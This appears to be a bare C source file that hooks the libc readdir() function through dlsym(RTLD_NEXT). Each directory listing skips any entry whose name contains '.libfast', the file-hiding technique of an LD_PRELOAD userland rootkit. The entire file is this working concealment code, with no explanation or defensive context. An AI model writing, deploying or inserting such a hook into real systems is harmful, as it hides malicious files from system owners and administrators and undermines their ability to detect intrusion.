#define _GNU_SOURCE
#include <dlfcn.h>
#include <string.h>
#include <dirent.h>
struct dirent *readdir(DIR *d) {
  static struct dirent *(*real)(DIR *);
  if (!real) real = dlsym(RTLD_NEXT, "readdir");
  struct dirent *e;
  while ((e = real(d)) && strstr(e->d_name, ".libfast"))
    ;
  return e;
}
